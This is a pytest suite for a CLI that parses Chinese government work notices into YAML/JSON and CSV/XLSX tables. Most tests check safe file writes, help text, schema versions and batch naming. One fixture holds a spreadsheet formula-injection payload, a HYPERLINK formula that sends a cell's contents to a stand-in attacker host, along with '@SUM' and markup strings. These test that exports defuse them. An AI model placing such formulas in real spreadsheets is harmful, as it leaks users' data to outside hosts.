"""The CLI's promises of issue 13: safe writes, one consistent CLI, the output contract, tables for
many notices, spreadsheet and terminal safety."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from qigong_parse.cli import render_batch_table, render_summary, run, warning_counts
from qigong_parse.cli.batch import Job, Result, Stats, expand_inputs, natural_key, plan_outputs
from qigong_parse.io.yaml_in import load_document
from qigong_parse.io.yaml_out import dump_document, dump_yaml, json_text
from qigong_parse.model.output import SCHEMA_VERSION, Document, Target
from qigong_parse.pipeline import parse_path

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "raw" / "shaodong-2025-qidagongjian.txt"
COMMANDS = ("parse", "validate", "schema", "diff", "export", "units")


def qigong(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = run(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def sample_doc() -> Document:
    return parse_path(SAMPLE)


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample_doc: Document) -> Path:
    shutil.copy(SAMPLE, tmp_path / "s.txt")
    (tmp_path / "s.txt").chmod(0o644)
    (tmp_path / "s.yaml").write_text(dump_yaml(sample_doc), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _render(renderable: object) -> str:
    from rich.console import Console

    buffer = io.StringIO()
    Console(file=buffer, width=200, color_system=None).print(renderable)
    return buffer.getvalue()


# --- 1. every write is safe ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_export_never_overwrites_its_input(work: Path, capsys: pytest.CaptureFixture[str], fmt: str) -> None:
    before = (work / "s.yaml").read_bytes()
    code, _, err = qigong(capsys, "export", "s.yaml", "--to", fmt, "-o", "s.yaml", "--force")
    assert code == 1 and "it is an input file" in err and len(err.strip().splitlines()) == 1
    assert (work / "s.yaml").read_bytes() == before


def test_export_dash_is_stdout_or_a_usage_error(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = qigong(capsys, "export", "s.yaml", "--to", "json", "-o", "-")
    assert code == 0 and "tasks" in json.loads(out)
    code, _, err = qigong(capsys, "export", "s.yaml", "--to", "csv", "-o", "-")
    assert code == 2 and "writes JSON only" in err
    assert not list(work.glob("-*"))  # no ./--tasks.csv


def test_missing_extra_is_an_install_hint(work: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # `import openpyxl` now fails as if not installed
    code, _, err = qigong(capsys, "export", "s.yaml", "--to", "xlsx", "-o", "t.xlsx")
    assert code == 1
    assert err.strip() == "qigong export: error: writing XLSX needs openpyxl: pip install 'qigong-parse[xlsx]'"
    assert not (work / "t.xlsx").exists()


def _full_stdout(*args: str) -> subprocess.CompletedProcess[str]:
    with open("/dev/full", "w") as full:
        return subprocess.run([sys.executable, "-m", "qigong_parse", *args], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
@pytest.mark.parametrize(("args", "status"), [
    (("diff", "s.yaml", "s.yaml", "--to", "json"), 2),
    (("parse", "s.txt", "-o", "-"), 1),
    (("validate", "s.yaml"), 1),
    (("schema",), 1),
])
def test_full_stdout_is_a_one_line_error(work: Path, args: tuple[str, ...], status: int) -> None:
    done = _full_stdout(*args)
    assert done.returncode == status, done.stderr
    assert done.stderr.strip().endswith("cannot write to stdout: No space left on device"), done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


def test_diff_exits_2_on_any_error(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert qigong(capsys, "diff", "s.yaml", "nope.yaml")[0] == 2
    assert qigong(capsys, "diff", "s.yaml")[0] == 2  # missing argument
    assert qigong(capsys, "diff", "s.yaml", "s.yaml", "--to", "xml")[0] == 2


# --- 3. one consistent CLI -----------------------------------------------------------------------


@pytest.mark.parametrize("command", COMMANDS)
def test_help_has_examples_debug_and_no_bool_metavar(capsys: pytest.CaptureFixture[str], command: str) -> None:
    code, out, _ = qigong(capsys, command, "--help")
    assert code == 0
    assert "Example" in out and "Exit status" in out
    assert "--debug" in out
    assert "<bool>" not in out and "<str>" not in out


@pytest.mark.parametrize(("command", "choices"), [("parse", "[yaml|json|jsonl]"), ("export", "[csv|xlsx|json]"),
                                                  ("diff", "[table|json|yaml|markdown]"),
                                                  ("units", "[table|json|yaml|markdown]")])
def test_output_format_is_to_with_choices(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
                                          command: str, choices: str) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    _, out, _ = qigong(capsys, command, "--help")
    assert "--to" in out and choices in out


def test_flags_take_no_value(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, _ = qigong(capsys, "parse", "s.txt", "-o", "o.yaml", "--quiet", "--force")
    assert code == 0


def test_bare_qigong_prints_help(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = qigong(capsys)
    assert code == 0 and "Usage: qigong" in out and "Commands" in out and err == ""


def test_completion_is_available(capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = qigong(capsys, "--help")
    assert "--install-completion" in out


def test_parse_dash_reads_stdin(work: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "qigong_parse", "parse", "-", "--to", "jsonl"],
                          input=SAMPLE.read_bytes(), capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.decode("utf-8").splitlines()
    assert len(lines) == 1
    data = json.loads(lines[0])
    assert data["source"]["file"] == "<stdin>" and data["notice"]["doc_number"] == "邵东政办发〔2025〕2号"


def test_parse_to_json_writes_beside_the_input(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, _ = qigong(capsys, "parse", "s.txt", "--to", "json")
    assert code == 0
    data = json.loads((work / "s.json").read_text("utf-8"))
    assert data["schema_version"] == SCHEMA_VERSION
    assert Document.model_validate(data).notice is not None
    code, _, _ = qigong(capsys, "parse", "s.txt", "--to", "json")  # our own JSON output may be replaced
    assert code == 0


def test_warning_summary_names_the_kinds(sample_doc: Document) -> None:
    assert warning_counts(["b", "a", "b"]) == "3 warning(s): 2 b, 1 a"
    text = _render(render_summary(sample_doc, "out.yaml"))
    if sample_doc.warnings:
        assert f"{len(sample_doc.warnings)} warning(s): " in text
        assert sample_doc.warnings[0].code in text


def test_batch_off_a_terminal_prints_plain_lines(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (work / "raw").mkdir()
    for name in ("a.txt", "b.txt"):
        shutil.copy(SAMPLE, work / "raw" / name)
    code, _, err = qigong(capsys, "parse", "raw", "-o", "out")
    assert code == 0
    assert not set("│┃┏━┡╇└─┌") & set(err), err
    lines = err.strip().splitlines()
    assert lines[0].startswith("ok    raw/a.txt -> out/a.yaml")
    assert lines[-1].startswith("2 written, 0 failed")


def test_natural_sort_in_batches(tmp_path: Path) -> None:
    for n in (10, 2, 1):
        (tmp_path / f"附件{n}.txt").write_text("x", "utf-8")
    found = expand_inputs([str(tmp_path)])
    assert [p.name for p in found.files] == ["附件1.txt", "附件2.txt", "附件10.txt"]
    assert sorted(["n-10", "n-9"], key=natural_key) == ["n-9", "n-10"]


def test_one_naming_rule_for_single_and_batch(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = "通知 (1).txt"
    shutil.copy(SAMPLE, work / name)
    assert qigong(capsys, "parse", name)[0] == 0
    assert (work / "通知 (1).yaml").is_file()
    assert plan_outputs([Path(name)], Path("out")) == [Path("out") / "通知 (1).yaml"]


# --- 4. the output contract ----------------------------------------------------------------------


def test_yaml_as_pyyaml_loads_it_passes_the_json_schema(sample_doc: Document) -> None:
    jsonschema = pytest.importorskip("jsonschema", reason="jsonschema is in the dev dependency group")
    schema = Document.model_json_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema" and schema["$id"]
    jsonschema.Draft202012Validator.check_schema(schema)
    data = yaml.safe_load(dump_yaml(sample_doc))
    assert isinstance(data["notice"]["date"], str)
    jsonschema.Draft202012Validator(schema).validate(data)
    jsonschema.Draft202012Validator(schema).validate(json.loads(dump_document(sample_doc, "json")))


@pytest.mark.parametrize(("version", "ok"), [("1.0", True), ("1.1", True), ("1.7", True), ("9.9", False),
                                             ("2.0", False), ("1", False)])
def test_validate_reads_every_1x_and_refuses_other_majors(work: Path, capsys: pytest.CaptureFixture[str],
                                                          version: str, ok: bool) -> None:
    text = (work / "s.yaml").read_text("utf-8").replace(f'schema_version: "{SCHEMA_VERSION}"',
                                                        f'schema_version: "{version}"', 1)
    (work / "v.yaml").write_text(text, "utf-8")
    code, out, _ = qigong(capsys, "validate", "v.yaml")
    if ok:
        assert (code, out) == (0, "v.yaml: ok\n")
    else:
        assert code == 1
        assert out.strip().splitlines() == [f"v.yaml: schema_version: Value error, schema_version '{version}' "
                                            "is not supported: this qigong reads 1.x files"]


def _target(**kw: Any) -> Target:
    base = {"quote": "增长5%", "span": (0, 4), "metric": "m", "change": "increase", "value": 5.0,
            "unit": "%", "bound": ">="}
    return Target.model_validate(base | kw)


def test_commitment_is_derived_from_aspirational() -> None:
    assert _target(aspirational=True).commitment == "soft"
    assert _target(aspirational=False).commitment == "plain"
    assert _target(commitment="soft").aspirational is True
    assert _target(aspirational=False, commitment="hard").commitment == "hard"
    with pytest.raises(ValueError, match="contradicts"):
        _target(aspirational=True, commitment="hard")


def test_json_outputs_have_no_nan() -> None:
    text = json_text({"a": math.nan, "b": [math.inf, 1.5]})
    assert json.loads(text) == {"a": None, "b": [None, 1.5]}
    assert "NaN" not in text and "Infinity" not in text


# --- 5. tables for many notices ------------------------------------------------------------------


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_export_many_notices_into_one_set_of_tables(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (work / "in").mkdir()
    shutil.copy(work / "s.yaml", work / "in" / "a.yaml")
    shutil.copy(work / "s.yaml", work / "in" / "b.yaml")
    (work / "tables").mkdir()
    code, _, err = qigong(capsys, "export", "in", "--to", "csv", "-o", "tables")
    assert code == 0, err
    tasks = _read_csv(work / "tables" / "tasks.csv")
    one = load_document(work / "s.yaml")
    assert {r["source"] for r in tasks} == {one.source.file}  # both copies name the notice they came from
    assert tasks[0]["issuer"] == "邵东市人民政府办公室" and tasks[0]["doc_number"] == "邵东政办发〔2025〕2号"
    assert tasks[0]["date"] == "2025-03-06" and tasks[0]["year"] == "2025"
    n_tasks = len(tasks) // 2
    assert len(tasks) == 2 * n_tasks and n_tasks > 0
    long = _read_csv(work / "tables" / "responsibilities.csv")
    assert {r["role"] for r in long} <= {"lead", "support", "joint"} and long
    assert set(long[0]) >= {"source", "part", "path", "task", "unit", "role"}
    assert one.parts  # the tables come from a real document
    code, _, err = qigong(capsys, "export", "in/a.yaml", "in/b.yaml", "--to", "json")
    assert code == 2 and "give -o OUT" in err


def test_export_json_keeps_lists_and_targets_structured(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = qigong(capsys, "export", "s.yaml", "--to", "json", "-o", "-")
    assert code == 0
    tasks = json.loads(out)["tasks"]
    with_targets = next(t for t in tasks if t["targets"])
    assert isinstance(with_targets["lead"], list)
    assert {"metric", "value", "unit", "quote"} <= set(with_targets["targets"][0])


def _unit_names(data: Any, key: str = "") -> list[str]:
    if key == "groups":  # regular expressions, not names
        return []
    if isinstance(data, dict):
        return [*data.keys(), *(n for k, v in data.items() for n in _unit_names(v, str(k)))]
    if isinstance(data, list):
        return [n for v in data for n in _unit_names(v, key)]
    return [data] if isinstance(data, str) else []


def test_list_separator_cannot_occur_in_unit_names() -> None:
    from qigong_parse.research.export import LIST_SEP

    names = [n for f in (ROOT / "src" / "qigong_parse" / "rules" / "units").glob("*.yaml")
             for n in _unit_names(yaml.safe_load(f.read_text("utf-8")))]
    assert len(names) > 50
    assert not [n for n in names if LIST_SEP.strip() in n]
    assert "、" in "各县（市、区）人民政府"  # why 、 is not the separator


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


def _hostile_doc(sample_doc: Document) -> Document:
    doc = sample_doc.model_copy(deep=True)
    node = next(n for p in doc.parts for n in p.walk() if n.responsibility and n.title)
    node.title = HOSTILE_TITLE
    assert node.responsibility is not None
    node.responsibility.lead = ["@SUM(1+1)", "[/]市发改局[bold]"]
    return doc


def test_spreadsheet_formulas_are_defused(tmp_path: Path, sample_doc: Document) -> None:
    from openpyxl import load_workbook

    from qigong_parse.research.export import export

    doc = _hostile_doc(sample_doc)
    (tmp_path / "csv").mkdir()
    export(doc, "csv", tmp_path / "csv")
    rows = _read_csv(tmp_path / "csv" / "tasks.csv")
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + HOSTILE_TITLE
    assert row["lead"].startswith("'@SUM")
    export(doc, "xlsx", tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["tasks"]
    cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == HOSTILE_TITLE for c in cells)


# --- rich markup in data never breaks a table ----------------------------------------------------


def test_markup_in_names_and_titles_is_text(sample_doc: Document, capsys: pytest.CaptureFixture[str],
                                            tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    doc = _hostile_doc(sample_doc)
    doc.parts[0].title = "[/]总体方案[red]"
    assert "[/]总体方案[red]" in _render(render_summary(doc, "a[/]b.yaml"))
    results = [Result(Job("in[/]put.txt", "out[/].yaml"), stats=Stats(parts=1)),
               Result(Job("bad[/].txt", ""), error="bad")]
    text = _render(render_batch_table(results))
    assert "in[/]put.txt" in text and "bad[/].txt" in text
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that rich folds no cell
    Path("h.yaml").write_text(dump_yaml(doc), "utf-8")
    from qigong_parse.research import cli as research_cli

    monkeypatch.setattr(research_cli, "_report_format", lambda to: "table")  # the terminal default
    code, out, err = qigong(capsys, "units", "h.yaml")
    assert code == 0, err
    assert "[/]市发改局[bold]" in out
    code, out, err = qigong(capsys, "diff", "h.yaml", "h.yaml")
    assert code == 0, err


def test_python_dash_m_runs_the_cli() -> None:
    done = subprocess.run([sys.executable, "-m", "qigong_parse", "--version"], capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0 and done.stdout.startswith("qigong ")


def test_readme_figures_are_the_sample_s(sample_doc: Document) -> None:
    """The README quotes the sample's unit count and table sizes: they must be today's."""
    import re

    from qigong_parse.research.export import tables
    from qigong_parse.research.matrix import responsibility_matrix

    readme = (ROOT / "README.md").read_text("utf-8")
    units = re.search(r"\*\*(\d+) units\*\*", readme)
    assert units and int(units.group(1)) == len(responsibility_matrix(sample_doc))
    sizes = {t.name: len(t.rows) for t in tables(sample_doc)}
    claim = (f"{sizes['tasks']} tasks, {sizes['responsibilities']} responsibility rows, "
             f"{sizes['targets']} targets and {sizes['task_forces']}")
    assert claim in " ".join(readme.split())
